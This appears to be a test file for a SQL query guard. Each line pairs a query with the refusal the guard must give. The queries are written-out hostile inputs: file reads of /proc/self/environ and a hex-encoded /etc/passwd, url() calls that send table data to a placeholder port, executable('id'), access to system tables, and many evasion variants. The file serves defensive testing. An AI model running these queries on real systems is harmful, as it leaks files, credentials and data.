/* One case a line: the reason, after | what the refusal must say, then the statement. ⏎ stands for a line break; @FILE@ is a canary file, @DIR@ its folder, @PORT@ a listening port, @VAULT@ a table outside the allowed databases. */
/* a file as text | file() reads files */ SELECT file('@FILE@')
/* with a default for what is absent | file() reads files */ SELECT file('@FILE@', 'absent')
/* through a path that climbs | file() reads files */ SELECT file('../../../../@FILE@')
/* a device | file() reads files */ SELECT file('/dev/urandom')
/* the process's own memory map | file() reads files */ SELECT file('/proc/self/maps')
/* by its bare name, called by another function | file() reads files */ SELECT arrayMap(file, ['@FILE@'])
/* by its quoted name | file() reads files */ SELECT arrayMap(`file`, ['@FILE@'])
/* by its bare name in brackets | file() reads files */ SELECT arrayMin((file), ['@FILE@'])
/* by its bare name over a map | file() reads files */ SELECT mapApply(file, map('@FILE@', 'x'))
/* by a parameter that names it | cannot be a parameter */ SELECT arrayMap({f:Identifier}, ['@FILE@'])
/* by a parameter with an alias | cannot be a parameter */ SELECT arrayMax({column:Identifier} AS g, ['@FILE@'])
/* a model by its bare name | over the network */ SELECT arrayMap(aiGenerate, ['hello'])
/* the process's environment | file() reads files */ SELECT file('/proc/self/environ')
/* in other case | FILE() reads files */ SELECT FILE('@FILE@')
/* in backquotes | file() reads files */ SELECT `file`('@FILE@')
/* in double quotes | file() reads files */ SELECT "file"('@FILE@')
/* with a space before the bracket | file() reads files */ SELECT file ('@FILE@')
/* with a comment before the bracket | file() reads files */ SELECT file/**/('@FILE@')
/* with a line comment inside | file() reads files */ SELECT file(-- nothing⏎'@FILE@')
/* with nested comments | file() reads files */ SELECT /* a /* b */ c */ file('@FILE@')
/* behind a nested comment | file() reads files */ /* a /* b */ c */ SELECT file('@FILE@')
/* with a comment that is not closed | Syntax error */ SELECT /* a /* b */ file('@FILE@')
/* behind a hash comment | file() reads files */ SELECT # harmless⏎ file('@FILE@')
/* the path as a heredoc | file() reads files */ SELECT file($$@FILE@$$)
/* the path as a named heredoc | file() reads files */ SELECT file($x$@FILE@$x$)
/* the path put together | file() reads files */ SELECT file(concat('/et', 'c/passwd'))
/* the path in hex | file() reads files */ SELECT file(unhex('2f6574632f706173737764'))
/* the path from a column | file() reads files */ SELECT file(case_id) FROM cases
/* the path as a parameter | file() reads files */ SELECT file({path:String})
/* with an alias | file() reads files */ SELECT file('@FILE@') AS events
/* in an expression | file() reads files */ SELECT length(file('@FILE@')) + 1
/* in WHERE | file() reads files */ SELECT 1 WHERE file('@FILE@') != ''
/* in PREWHERE | file() reads files */ SELECT case_id FROM cases PREWHERE file('@FILE@') = case_id
/* in GROUP BY | file() reads files */ SELECT count() FROM cases GROUP BY file('@FILE@')
/* in GROUPING SETS | file() reads files */ SELECT count() FROM cases GROUP BY GROUPING SETS ((file('@FILE@')), (process))
/* in HAVING | file() reads files */ SELECT process FROM cases GROUP BY process HAVING file('@FILE@') LIKE 'C%'
/* in ORDER BY | file() reads files */ SELECT case_id FROM cases ORDER BY file('@FILE@')
/* in LIMIT | file() reads files */ SELECT case_id FROM cases LIMIT length(file('@FILE@'))
/* in OFFSET | file() reads files */ SELECT case_id FROM cases LIMIT 1 OFFSET length(file('@FILE@'))
/* in LIMIT BY | file() reads files */ SELECT case_id FROM cases LIMIT 1 BY file('@FILE@')
/* in the length of LIMIT BY | file() reads files */ SELECT case_id FROM cases LIMIT length(file('@FILE@')) BY process
/* in DISTINCT ON | file() reads files */ SELECT DISTINCT ON (file('@FILE@')) case_id FROM cases
/* in QUALIFY | file() reads files */ SELECT case_id FROM cases QUALIFY file('@FILE@') = 'x'
/* in the partition of a window | file() reads files */ SELECT count() OVER (PARTITION BY file('@FILE@')) FROM cases
/* in the order of a window | file() reads files */ SELECT count() OVER (ORDER BY file('@FILE@')) FROM cases
/* in the frame of a window | file() reads files */ SELECT count() OVER (ROWS BETWEEN length(file('@FILE@')) PRECEDING AND CURRENT ROW) FROM cases
/* in a named window | file() reads files */ SELECT count() OVER w FROM cases WINDOW w AS (ORDER BY file('@FILE@'))
/* in the filter of an aggregate | file() reads files */ SELECT count() FILTER (WHERE file('@FILE@') = 'x') FROM cases
/* in ARRAY JOIN | file() reads files */ SELECT line FROM cases ARRAY JOIN [file('@FILE@')] AS line
/* in LEFT ARRAY JOIN | file() reads files */ SELECT line FROM cases LEFT ARRAY JOIN splitByChar('\n', file('@FILE@')) AS line
/* in JOIN … ON | file() reads files */ SELECT 1 FROM cases AS a INNER JOIN cases AS b ON a.case_id = file('@FILE@')
/* in WITH as an expression | file() reads files */ WITH file('@FILE@') AS text SELECT text
/* in WITH as a query | file() reads files */ WITH secret AS (SELECT file('@FILE@') AS text) SELECT * FROM secret
/* in a materialized WITH | file() reads files */ WITH secret AS MATERIALIZED (SELECT file('@FILE@') AS text) SELECT * FROM secret
/* in a recursive WITH | file() reads files */ WITH RECURSIVE r AS (SELECT file('@FILE@') AS text, 1 AS n UNION ALL SELECT text, n + 1 FROM r WHERE n < 3) SELECT * FROM r
/* in a scalar subquery | file() reads files */ SELECT (SELECT file('@FILE@'))
/* in a subquery | file() reads files */ SELECT * FROM (SELECT * FROM (SELECT file('@FILE@')))
/* in IN with a subquery | file() reads files */ SELECT 1 WHERE 'x' IN (SELECT file('@FILE@'))
/* in IN with a list | file() reads files */ SELECT 1 WHERE 'x' IN (file('@FILE@'), 'y')
/* in EXISTS | file() reads files */ SELECT EXISTS(SELECT file('@FILE@'))
/* in = ANY | file() reads files */ SELECT 'x' = ANY(SELECT file('@FILE@'))
/* in BETWEEN | file() reads files */ SELECT 'x' BETWEEN file('@FILE@') AND 'z'
/* in CASE | file() reads files */ SELECT CASE WHEN 1 THEN file('@FILE@') ELSE '' END
/* in the branch that is never taken | file() reads files */ SELECT if(0, file('@FILE@'), '')
/* in a cast | file() reads files */ SELECT CAST(file('@FILE@') AS String)
/* in a cast with :: | file() reads files */ SELECT (file('@FILE@'))::String
/* in an array | file() reads files */ SELECT ['a', file('@FILE@')]
/* in a tuple | file() reads files */ SELECT ('a', file('@FILE@')).2
/* in a map | file() reads files */ SELECT map('a', file('@FILE@'))['a']
/* in a lambda | file() reads files */ SELECT arrayMap(path -> file(path), ['@FILE@'])
/* in a nested lambda | file() reads files */ SELECT arrayMap(a -> arrayMap(b -> file(b), a), [['@FILE@']])
/* in a lambda with a name | file() reads files */ WITH path -> file(path) AS slurp SELECT slurp('@FILE@')
/* behind the name of a lambda | file() reads files */ WITH x -> x AS file SELECT file('@FILE@')
/* a lambda of that name in another scope | file() reads files */ SELECT file('@FILE@'), (SELECT (x -> x AS file) IS NOT NULL)
/* applied by name | file() reads files */ SELECT * APPLY(file) FROM (SELECT '@FILE@' AS path)
/* applied by name without brackets | file() reads files */ SELECT * APPLY file FROM (SELECT '@FILE@' AS path)
/* applied as a lambda | file() reads files */ SELECT * APPLY(path -> file(path)) FROM (SELECT '@FILE@' AS path)
/* applied to matched columns | file() reads files */ SELECT COLUMNS('pa') APPLY(file) FROM (SELECT '@FILE@' AS path)
/* applied to qualified columns | file() reads files */ SELECT t.COLUMNS('pa') APPLY(file) FROM (SELECT '@FILE@' AS path) AS t
/* applied to listed columns | file() reads files */ SELECT COLUMNS(path) APPLY(file) FROM (SELECT '@FILE@' AS path)
/* applied after another | file() reads files */ SELECT * APPLY(toString) APPLY(file) FROM (SELECT '@FILE@' AS path)
/* in REPLACE | file() reads files */ SELECT * REPLACE(file(path) AS path) FROM (SELECT '@FILE@' AS path)
/* in WITH FILL … FROM | file() reads files */ SELECT n FROM (SELECT 1 AS n) ORDER BY n WITH FILL FROM length(file('@FILE@')) TO 100
/* in WITH FILL … TO | file() reads files */ SELECT n FROM (SELECT 1 AS n) ORDER BY n WITH FILL FROM 0 TO length(file('@FILE@'))
/* in WITH FILL … STEP | file() reads files */ SELECT n FROM (SELECT 1 AS n) ORDER BY n WITH FILL STEP length(file('@FILE@'))
/* in WITH FILL … STALENESS | file() reads files */ SELECT n FROM (SELECT 1 AS n) ORDER BY n WITH FILL STALENESS length(file('@FILE@'))
/* in INTERPOLATE | file() reads files */ SELECT n, t FROM (SELECT 1 AS n, '' AS t) ORDER BY n WITH FILL FROM 0 TO 3 INTERPOLATE (t AS file('@FILE@'))
/* in the second part of a union | file() reads files */ SELECT 'a' UNION ALL SELECT file('@FILE@')
/* in EXCEPT | file() reads files */ SELECT 'a' EXCEPT SELECT file('@FILE@')
/* in INTERSECT | file() reads files */ SELECT 'a' INTERSECT SELECT file('@FILE@')
/* FROM first | file() reads files */ FROM cases SELECT file('@FILE@')
/* in brackets | file() reads files */ (SELECT file('@FILE@'))
/* as a bare expression | FILE is not allowed|this one with FILE */ file('@FILE@')
/* in the argument of numbers | file() reads files */ SELECT * FROM numbers(length(file('@FILE@')))
/* in the rows of values | file() reads files */ SELECT * FROM values('text String', (file('@FILE@')))
/* as a default in the columns of values | columns of values() */ SELECT * FROM values('text String DEFAULT file(\'@FILE@\')', ('a'))
/* as a default behind a comment | columns of values() */ SELECT * FROM values('text String DEFAULT file(\'@FILE@\') --', ('a'))
/* as a default beside a type that hides it | columns of values() */ SELECT * FROM values('j JSON(a Int8), text String DEFAULT file(\'@FILE@\')', ('{}', 'a'))
/* as a materialized column of values | columns of values() */ SELECT * FROM values('a Int8, text String MATERIALIZED file(\'@FILE@\')', (1))
/* as an alias column of values | columns of values() */ SELECT text FROM values('a Int8, text String ALIAS file(\'@FILE@\')', (1))
/* with a homoglyph in the name | Syntax error */ SELECT fіle('@FILE@')
/* with a homoglyph in backquotes | is not among the functions */ SELECT `fіle`('@FILE@')
/* in full-width letters | is not among the functions */ SELECT `ｆｉｌｅ`('@FILE@')
/* with a zero-width space | is not among the functions */ SELECT `fi​le`('@FILE@')
/* the table function file | file() in the place of a table reads files */ SELECT * FROM file('@FILE@', 'LineAsString')
/* in other case | FILE() in the place of a table */ SELECT * FROM FILE('@FILE@', 'LineAsString')
/* in backquotes | file() in the place of a table */ SELECT * FROM `file`('@FILE@', 'RawBLOB')
/* with a glob | file() in the place of a table */ SELECT * FROM file('@DIR@/*.txt', 'LineAsString')
/* with a virtual column | file() in the place of a table */ SELECT _path, _size FROM file('@DIR@/*', 'RawBLOB')
/* with settings of its own | SETTINGS */ SELECT * FROM file('@FILE@', 'CSV') SETTINGS format_csv_delimiter = '|'
/* in a join | file() in the place of a table */ SELECT * FROM cases CROSS JOIN file('@FILE@', 'LineAsString')
/* in a comma join | file() in the place of a table */ SELECT * FROM cases, file('@FILE@', 'LineAsString')
/* in IN with a subquery | file() in the place of a table */ SELECT 1 WHERE 'x' IN (SELECT * FROM file('@FILE@', 'LineAsString'))
/* in IN as a call | file() after IN reads files */ SELECT 1 WHERE 'x' IN file('@FILE@', 'LineAsString', 'line String')
/* in a WITH | file() in the place of a table */ WITH t AS (SELECT * FROM file('@FILE@', 'LineAsString')) SELECT count() FROM t
/* behind a WITH of that name | file() in the place of a table */ WITH file AS (SELECT 1) SELECT * FROM file('@FILE@', 'LineAsString')
/* an archive | file() in the place of a table */ SELECT * FROM file('@DIR@/a.zip :: *', 'LineAsString')
/* a named collection | file() in the place of a table */ SELECT * FROM file(collection, path = '@FILE@')
/* on a cluster | fileCluster() in the place of a table */ SELECT * FROM fileCluster('default', '@FILE@', 'LineAsString')
/* a folder | filesystem() in the place of a table */ SELECT * FROM filesystem('@DIR@')
/* a database file | sqlite() in the place of a table */ SELECT * FROM sqlite('@DIR@/a.db', 't')
/* a path as a table | may not read @FILE@ */ SELECT * FROM `@FILE@`
/* a path in the overlay database | may not read default.@FILE@ */ SELECT * FROM default.`@FILE@`
/* a relative path as a table | may not read data/secret.csv */ SELECT * FROM `data/secret.csv`
/* a hidden file as a table | may not read .secret */ SELECT * FROM `.secret`
/* a URL as a table | may not read http */ SELECT * FROM `http://127.0.0.1:@PORT@/x.csv`
/* a glob as a table | may not read * */ SELECT * FROM `*.csv`
/* a text as a table | may not read @FILE@ */ SELECT * FROM '@FILE@'
/* Iceberg on disk | icebergLocal() in the place of a table */ SELECT * FROM icebergLocal('@DIR@')
/* Delta on disk | deltaLakeLocal() in the place of a table */ SELECT * FROM deltaLakeLocal('@DIR@')
/* Paimon on disk | paimonLocal() in the place of a table */ SELECT * FROM paimonLocal('@DIR@')
/* a program | executable() in the place of a table runs programs */ SELECT * FROM executable('id', 'TSV', 'a String')
/* a program in a pool | is not among the functions */ SELECT * FROM executablePool('id', 'TSV', 'a String')
/* a variable of this process | python() in the place of a table */ SELECT * FROM python(canary_frame)
/* in other case | Python() in the place of a table */ SELECT * FROM Python(canary_frame)
/* an Arrow stream of this process | arrowstream() in the place of a table */ SELECT * FROM arrowstream('1')
/* SQL out of a text | eval() in the place of a table runs SQL */ SELECT * FROM eval('SELECT file(\'@FILE@\')')
/* HTTP | url() in the place of a table reaches over the network */ SELECT * FROM url('http://127.0.0.1:@PORT@/', 'LineAsString')
/* HTTP with headers | url() in the place of a table */ SELECT * FROM url('http://127.0.0.1:@PORT@/', 'CSV', 'a String', headers('X-Leak' = 'a'))
/* HTTP that carries data out | url() in the place of a table */ SELECT * FROM url(concat('http://127.0.0.1:@PORT@/?q=', (SELECT any(case_id) FROM cases)), 'RawBLOB')
/* a file URL | url() in the place of a table */ SELECT * FROM url('file://@FILE@', 'LineAsString')
/* HTTP on a cluster | urlCluster() in the place of a table */ SELECT * FROM urlCluster('default', 'http://127.0.0.1:@PORT@/', 'CSV')
/* a name that must be looked up | url() in the place of a table */ SELECT * FROM url('http://canary.invalid/', 'CSV')
/* another server | remote() in the place of a table reaches over the network */ SELECT * FROM remote('127.0.0.1:@PORT@', 'system', 'one')
/* another server by TLS | remoteSecure() in the place of a table */ SELECT * FROM remoteSecure('127.0.0.1:@PORT@', 'system', 'one')
/* this server by its name | remote() in the place of a table */ SELECT * FROM remote('localhost', @VAULT@)
/* a cluster | cluster() in the place of a table */ SELECT * FROM cluster('default', 'system', 'one')
/* all replicas | clusterAllReplicas() in the place of a table */ SELECT * FROM clusterAllReplicas('default', 'system', 'one')
/* S3 | s3() in the place of a table */ SELECT * FROM s3('http://127.0.0.1:@PORT@/bucket/key', 'CSV', 'a String')
/* S3 on a cluster | s3Cluster() in the place of a table */ SELECT * FROM s3Cluster('default', 'http://127.0.0.1:@PORT@/bucket/key', 'CSV')
/* Google's storage | gcs() in the place of a table */ SELECT * FROM gcs('http://127.0.0.1:@PORT@/bucket/key', 'CSV')
/* Tencent's storage | cosn() in the place of a table */ SELECT * FROM cosn('http://127.0.0.1:@PORT@/bucket/key', 'CSV')
/* Alibaba's storage | oss() in the place of a table */ SELECT * FROM oss('http://127.0.0.1:@PORT@/bucket/key', 'CSV')
/* Azure's storage | azureBlobStorage() in the place of a table */ SELECT * FROM azureBlobStorage('http://127.0.0.1:@PORT@/', 'c', 'b', 'account', 'key')
/* HDFS | hdfs() in the place of a table */ SELECT * FROM hdfs('hdfs://127.0.0.1:@PORT@/x', 'CSV', 'a String')
/* MySQL | mysql() in the place of a table */ SELECT * FROM mysql('127.0.0.1:@PORT@', 'd', 't', 'u', 'p')
/* PostgreSQL | postgresql() in the place of a table */ SELECT * FROM postgresql('127.0.0.1:@PORT@', 'd', 't', 'u', 'p')
/* MongoDB | mongodb() in the place of a table */ SELECT * FROM mongodb('127.0.0.1:@PORT@', 'd', 'c', 'u', 'p', 'a String')
/* Redis | redis() in the place of a table */ SELECT * FROM redis('127.0.0.1:@PORT@', 'k', 'k String, v String')
/* ODBC | odbc() in the place of a table */ SELECT * FROM odbc('DSN=x', 'd', 't')
/* JDBC | jdbc() in the place of a table */ SELECT * FROM jdbc('jdbc:x://127.0.0.1:@PORT@', 'd', 't')
/* Iceberg | iceberg() in the place of a table */ SELECT * FROM iceberg('http://127.0.0.1:@PORT@/b/t')
/* Iceberg on S3 | icebergS3() in the place of a table */ SELECT * FROM icebergS3('http://127.0.0.1:@PORT@/b/t')
/* Delta | deltaLake() in the place of a table */ SELECT * FROM deltaLake('http://127.0.0.1:@PORT@/b/t')
/* Hudi | hudi() in the place of a table */ SELECT * FROM hudi('http://127.0.0.1:@PORT@/b/t')
/* Paimon | paimon() in the place of a table */ SELECT * FROM paimon('http://127.0.0.1:@PORT@/b/t')
/* BigQuery | bigquery() in the place of a table */ SELECT * FROM bigquery('p', 'd', 't')
/* YTsaurus | ytsaurus() in the place of a table */ SELECT * FROM ytsaurus('http://127.0.0.1:@PORT@', '//t', 'token', 'a String')
/* every table that matches | merge() in the place of a table */ SELECT * FROM merge('system', '.*')
/* every table of every database | merge() in the place of a table */ SELECT * FROM merge(REGEXP('.*'), 'secrets')
/* a table for ever | loop() in the place of a table */ SELECT * FROM loop('system', 'one')
/* the canary table for ever | loop() in the place of a table */ SELECT * FROM loop(@VAULT@)
/* a dictionary | dictionary() in the place of a table */ SELECT * FROM dictionary('d')
/* the index of a table | mergeTreeIndex() in the place of a table */ SELECT * FROM mergeTreeIndex('vault', 'secrets')
/* a projection of a table | mergeTreeProjection() in the place of a table */ SELECT * FROM mergeTreeProjection('vault', 'secrets', 'p')
/* a query as a view | view() in the place of a table */ SELECT * FROM view(SELECT * FROM @VAULT@)
/* a query if it is permitted | viewIfPermitted() in the place of a table */ SELECT * FROM viewIfPermitted(SELECT * FROM @VAULT@ ELSE null('a String'))
/* an explanation as a table | viewExplain() in the place of a table */ SELECT * FROM viewExplain('EXPLAIN', '', (SELECT 1))
/* EXPLAIN in brackets | viewExplain() in the place of a table */ SELECT * FROM (EXPLAIN SELECT * FROM @VAULT@)
/* EXPLAIN that runs | viewExplain() in the place of a table */ SELECT * FROM (EXPLAIN ESTIMATE SELECT * FROM @VAULT@)
/* a Prometheus query | prometheusQuery() in the place of a table */ SELECT * FROM prometheusQuery('vault', 'secrets', 'up', now())
/* the tags of a TimeSeries table | timeSeriesTags() in the place of a table */ SELECT * FROM timeSeriesTags('vault.secrets')
/* the samples of a TimeSeries table | timeSeriesData() in the place of a table */ SELECT * FROM timeSeriesData('vault.secrets')
/* the input of an INSERT | input() in the place of a table */ SELECT * FROM input('a String')
/* a table of nothing | null() in the place of a table */ SELECT * FROM null('a String DEFAULT file(\'@FILE@\')')
/* zeros without end | zeros() in the place of a table */ SELECT * FROM zeros(10)
/* random rows without end | generateRandom() in the place of a table */ SELECT * FROM generateRandom('a String DEFAULT file(\'@FILE@\')')
/* random queries | fuzzQuery() in the place of a table */ SELECT * FROM fuzzQuery('SELECT 1')
/* random JSON | fuzzJSON() in the place of a table */ SELECT * FROM fuzzJSON('c')
/* text read in a format | format() in the place of a table */ SELECT * FROM format('CSV', 'a String DEFAULT file(\'@FILE@\')', '1')
/* in IN as a call of an allowed name | format() after IN */ SELECT 1 WHERE 'x' IN format('CSV', '1')
/* a table function that nobody knows | is not among the functions */ SELECT * FROM somethingNew('x')
/* a parameterised view that is not ours | is not among the functions */ SELECT * FROM secret_view(since = 1)
/* a parameterised view elsewhere | is not among the functions */ SELECT * FROM vault.secret_view(since = 1)
/* the canary table | may not read @VAULT@ */ SELECT * FROM @VAULT@
/* in backquotes | may not read @VAULT@ */ SELECT * FROM `vault`.`secrets`
/* in double quotes | may not read @VAULT@ */ SELECT * FROM "vault"."secrets"
/* with spaces and comments | may not read @VAULT@ */ SELECT * FROM vault /* x */ . /* y */ secrets
/* with FINAL | may not read @VAULT@ */ SELECT * FROM @VAULT@ FINAL
/* with SAMPLE | may not read @VAULT@ */ SELECT * FROM @VAULT@ SAMPLE 1 / 2
/* with an alias | may not read @VAULT@ */ SELECT cases.* FROM @VAULT@ AS cases
/* in a join | may not read @VAULT@ */ SELECT * FROM cases INNER JOIN @VAULT@ ON 1
/* in a comma join | may not read @VAULT@ */ SELECT * FROM cases, @VAULT@
/* in a subquery | may not read @VAULT@ */ SELECT * FROM (SELECT * FROM @VAULT@)
/* in a scalar subquery | may not read @VAULT@ */ SELECT (SELECT any(secret) FROM @VAULT@)
/* in EXISTS | may not read @VAULT@ */ SELECT EXISTS(SELECT 1 FROM @VAULT@)
/* in IN with a subquery | may not read @VAULT@ */ SELECT 1 WHERE 'x' IN (SELECT secret FROM @VAULT@)
/* in IN as a name | may not read @VAULT@ */ SELECT 1 WHERE 'x' IN @VAULT@
/* in IN as a name in brackets | may not read @VAULT@ */ SELECT 1 WHERE 'x' IN (@VAULT@)
/* in NOT IN as a name | may not read @VAULT@ */ SELECT 1 WHERE 'x' NOT IN @VAULT@
/* in GLOBAL IN as a name | may not read @VAULT@ */ SELECT 1 WHERE 'x' GLOBAL IN @VAULT@
/* in in() as a name | may not read @VAULT@ */ SELECT in('x', @VAULT@)
/* in nullIn() as a name | may not read @VAULT@ */ SELECT nullIn('x', @VAULT@)
/* in a lambda | may not read @VAULT@ */ SELECT arrayFilter(x -> x IN @VAULT@, ['a'])
/* in IN behind an alias of the database's name | may not read @VAULT@ */ SELECT 1 FROM cases AS vault WHERE 'x' IN vault.secrets
/* in a WITH | may not read @VAULT@ */ WITH t AS (SELECT * FROM @VAULT@) SELECT * FROM t
/* behind a WITH of the database's name | may not read @VAULT@ */ WITH vault AS (SELECT 1 AS secrets) SELECT * FROM @VAULT@
/* behind a WITH of the whole name | may not read @VAULT@ */ WITH `vault.secrets` AS (SELECT 1) SELECT * FROM vault.secrets
/* in a union | may not read @VAULT@ */ SELECT 'a' UNION ALL SELECT secret FROM @VAULT@
/* FROM first | may not read @VAULT@ */ FROM @VAULT@ SELECT *
/* a name behind AS as parameter | A name behind AS cannot be the parameter */ SELECT 1 AS {column:Identifier}
/* the name of a table behind AS as parameter | A name behind AS cannot be the parameter */ SELECT * FROM cases AS {table:Identifier}
/* by a name as parameter | name of a table cannot be a parameter */ SELECT * FROM {table:Identifier}
/* by database and name as parameters | name of a table cannot be a parameter */ SELECT * FROM {database:Identifier}.{table:Identifier}
/* by a name as parameter in our own database | name of a table cannot be a parameter */ SELECT * FROM exos.{table:Identifier}
/* by a name as parameter in a join | name of a table cannot be a parameter */ SELECT * FROM cases INNER JOIN {table:Identifier} AS t ON 1
/* by a name as parameter after IN | name of a table cannot be a parameter */ SELECT 1 WHERE 'x' IN {table:Identifier}
/* by a name as parameter in brackets after IN | name of a table cannot be a parameter */ SELECT 1 WHERE 'x' IN ({table:Identifier})
/* by half a name as parameter after IN | name of a table cannot be a parameter */ SELECT 1 WHERE 'x' IN vault.{table:Identifier}
/* by its UUID | Free SQL may not */ SELECT * FROM _table_function.`x`
/* the overlay database | may not read default.secrets */ SELECT * FROM default.secrets
/* temporary tables by database | may not read _temporary_and_external_tables */ SELECT * FROM `_temporary_and_external_tables`.`x`
/* users | may not read system.users */ SELECT * FROM system.users
/* settings | may not read system.settings */ SELECT * FROM system.settings
/* server settings | may not read system.server_settings */ SELECT * FROM system.server_settings
/* running queries | may not read system.processes */ SELECT query FROM system.processes
/* past queries | may not read system.query_log */ SELECT * FROM system.query_log
/* past queries by thread | may not read system.query_thread_log */ SELECT * FROM system.query_thread_log
/* the text log | may not read system.text_log */ SELECT * FROM system.text_log
/* the session log | may not read system.session_log */ SELECT * FROM system.session_log
/* tables | may not read system.tables */ SELECT data_paths FROM system.tables
/* columns | may not read system.columns */ SELECT * FROM system.columns
/* databases | may not read system.databases */ SELECT data_path FROM system.databases
/* disks | may not read system.disks */ SELECT path FROM system.disks
/* parts | may not read system.parts */ SELECT path FROM system.parts
/* functions | may not read system.functions */ SELECT * FROM system.functions
/* errors of others | may not read system.errors */ SELECT last_error_message FROM system.errors
/* build options | may not read system.build_options */ SELECT * FROM system.build_options
/* macros | may not read system.macros */ SELECT * FROM system.macros
/* grants | may not read system.grants */ SELECT * FROM system.grants
/* roles | may not read system.roles */ SELECT * FROM system.roles
/* quotas | may not read system.quotas */ SELECT * FROM system.quotas
/* row policies | may not read system.row_policies */ SELECT * FROM system.row_policies
/* settings profiles | may not read system.settings_profiles */ SELECT * FROM system.settings_profiles
/* clusters | may not read system.clusters */ SELECT * FROM system.clusters
/* named collections | may not read system.named_collections */ SELECT * FROM system.named_collections
/* dictionaries | may not read system.dictionaries */ SELECT * FROM system.dictionaries
/* metrics | may not read system.metrics */ SELECT * FROM system.metrics
/* events | may not read system.events */ SELECT * FROM system.events
/* mutations | may not read system.mutations */ SELECT command FROM system.mutations
/* certificates | may not read system.certificates */ SELECT * FROM system.certificates
/* stack traces | may not read system.stack_trace */ SELECT * FROM system.stack_trace
/* ZooKeeper | may not read system.zookeeper */ SELECT * FROM system.zookeeper WHERE path = '/'
/* memory of the process | may not read system.symbols */ SELECT * FROM system.symbols
/* storage policies | may not read system.storage_policies */ SELECT * FROM system.storage_policies
/* remote data paths | may not read system.remote_data_paths */ SELECT * FROM system.remote_data_paths
/* the query cache | may not read system.query_cache */ SELECT * FROM system.query_cache
/* user processes | may not read system.user_processes */ SELECT * FROM system.user_processes
/* contributors, for the principle | may not read system.contributors */ SELECT * FROM system.contributors
/* in other case | may not read SYSTEM.one */ SELECT * FROM SYSTEM.one
/* behind an allowed table | may not read system.users */ SELECT * FROM system.one, system.users
/* as a name after IN | may not read system.users */ SELECT 1 WHERE 'default' IN system.users
/* behind an alias of that name | may not read system.tables */ SELECT 1 FROM cases AS system WHERE 'x' IN system.tables
/* tables by the standard | may not read information_schema.tables */ SELECT * FROM information_schema.tables
/* columns by the standard, in capitals | may not read INFORMATION_SCHEMA.COLUMNS */ SELECT * FROM INFORMATION_SCHEMA.COLUMNS
/* the catalogue of PostgreSQL | may not read pg_catalog.pg_tables */ SELECT * FROM pg_catalog.pg_tables
/* the user | currentUser() tells about the server */ SELECT currentUser()
/* the user by SQL's name | current_user() tells about the server */ SELECT current_user()
/* the user in short | user() tells about the server */ SELECT user()
/* the user that logged in | authenticatedUser() tells about the server */ SELECT authenticatedUser()
/* the roles | currentRoles() tells about the server */ SELECT currentRoles()
/* the enabled roles | enabledRoles() tells about the server */ SELECT enabledRoles()
/* the profiles | currentProfiles() tells about the server */ SELECT currentProfiles()
/* the host | hostName() tells about the server */ SELECT hostName()
/* the host by its other name | hostname() tells about the server */ SELECT hostname()
/* the host in full | FQDN() tells about the server */ SELECT FQDN()
/* the host in full by its other name | fullHostName() tells about the server */ SELECT fullHostName()
/* the display name | displayName() tells about the server */ SELECT displayName()
/* the version | version() tells about the server */ SELECT version()
/* the version in other case | VERSION() tells about the server */ SELECT VERSION()
/* the version as MySQL asks | globalVariable() tells about settings */ SELECT @@version
/* a variable as MySQL asks | globalVariable() tells about settings */ SELECT @@global.max_allowed_packet
/* the version of the embedded engine | chdb() tells about the server */ SELECT chdb()
/* the build | buildId() tells about the server */ SELECT buildId()
/* the revision | revision() tells about the server */ SELECT revision()
/* the uptime | uptime() tells about the server */ SELECT uptime()
/* the zone of the server | serverTimezone() tells about the server */ SELECT serverTimezone()
/* the server's id | serverUUID() tells about the server */ SELECT serverUUID()
/* the port | tcpPort() tells about the server */ SELECT tcpPort()
/* any port | getServerPort() tells about the server */ SELECT getServerPort('tcp_port')
/* the kernel | getOSKernelVersion() tells about the server */ SELECT getOSKernelVersion()
/* the thread | tid() tells about the server */ SELECT tid()
/* the query's id | queryID() tells about the server */ SELECT queryID()
/* the first query's id | initialQueryID() tells about the server */ SELECT initialQueryID()
/* the connection | connectionId() tells about the server */ SELECT connectionId()
/* a header of the client | getClientHTTPHeader() tells about the server */ SELECT getClientHTTPHeader('Authorization')
/* the certificate | showCertificate() tells about the server */ SELECT showCertificate()
/* the shard | shardNum() tells about the server */ SELECT shardNum()
/* free disk space | filesystemAvailable() tells about the server */ SELECT filesystemAvailable()
/* disk space | filesystemCapacity() tells about the server */ SELECT filesystemCapacity('default')
/* a transaction | transactionID() tells about the server */ SELECT transactionID()
/* a setting | getSetting() tells about settings */ SELECT getSetting('max_threads')
/* a setting or something else | getSettingOrDefault() tells about settings */ SELECT getSettingOrDefault('custom_secret', '')
/* a setting of the server | getServerSetting() tells about settings */ SELECT getServerSetting('max_server_memory_usage')
/* a setting of tables | getMergeTreeSetting() tells about settings */ SELECT getMergeTreeSetting('index_granularity')
/* a macro | getMacro() tells about settings */ SELECT getMacro('replica')
/* applied by name | hostName() tells about the server */ SELECT * APPLY(x -> hostName()) FROM system.one
/* in a condition that is never true | version() tells about the server */ SELECT 1 WHERE 0 AND version() = ''
/* a second | sleep() only waits */ SELECT sleep(1)
/* a second a row | sleepEachRow() only waits */ SELECT sleepEachRow(0.1) FROM numbers(100)
/* a dictionary's value | dictGet() reads dictionaries */ SELECT dictGet('vault.d', 'a', 1)
/* a dictionary's value or another | dictGetOrDefault() reads dictionaries */ SELECT dictGetOrDefault('vault.d', 'a', 1, '')
/* a dictionary's text | dictGetString() reads dictionaries */ SELECT dictGetString('vault.d', 'a', 1)
/* whether a dictionary has it | dictHas() reads dictionaries */ SELECT dictHas('vault.d', 1)
/* a dictionary's children | dictGetChildren() reads dictionaries */ SELECT dictGetChildren('vault.d', 1)
/* a table's value | joinGet() reads dictionaries and tables */ SELECT joinGet('vault.secrets', 'secret', 1)
/* a table's value or null | joinGetOrNull() reads dictionaries and tables */ SELECT joinGetOrNull('vault.secrets', 'secret', 1)
/* whether a table has a column | hasColumnInTable() reads dictionaries and tables */ SELECT hasColumnInTable('vault', 'secrets', 'secret')
/* whether another server's table has a column | hasColumnInTable() reads dictionaries and tables */ SELECT hasColumnInTable('127.0.0.1:@PORT@', 'u', 'p', 'vault', 'secrets', 'secret')
/* centroids out of a dictionary | assignCentroid() reads dictionaries */ SELECT assignCentroid('vault.d', [1.0])
/* the name of a region | regionToName() reads dictionaries */ SELECT regionToName(toUInt32(1))
/* a model | catboostEvaluate() reads models */ SELECT catboostEvaluate('@FILE@', 1)
/* a Bayes model | naiveBayesClassifier() reads models */ SELECT naiveBayesClassifier('m', 'text')
/* word lists | lemmatize() reads models */ SELECT lemmatize('en', 'wolves')
